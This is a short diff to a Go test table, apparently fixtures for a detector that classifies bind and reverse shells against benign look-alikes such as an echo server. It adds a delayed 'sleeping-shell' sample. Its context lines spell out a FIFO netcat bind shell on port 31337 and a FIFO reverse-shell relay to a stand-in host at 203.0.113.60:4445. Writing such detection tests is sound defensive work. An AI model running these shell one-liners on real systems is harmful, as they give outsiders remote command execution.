@@ -66,6 +66,7 @@ func offered() []Sample {
 		shows("bind-shell/fifo", script("mknod /tmp/f p\nnc -l -p 31337 < /tmp/f | sh > /tmp/f 2>&1\n"), malicious, "nc -l"),
 		shows("bind-shell/second-port", acts("knock-shell", "8080", "31337"), malicious, "/bin/sh", "31337"),
 		shows("bind-shell/line-by-line", acts("line-shell", "4000"), malicious, "$((7*191))", "1337"),
+		shows("bind-shell/after-ten-minutes", acts("sleeping-shell", "4000"), malicious, "$((7*191))", "1337"),
 		nearly("bind-shell/handler-script", handler),
 		nearly("bind-shell/echo-server", acts("echo-server", "7")),
 		shows("reverse-shell-relay/fifo", script("mknod /tmp/f p\ncat /tmp/f | sh -i 2>&1 | nc 203.0.113.60 4445 > /tmp/f\n"), malicious, "203.0.113.60:4445"),
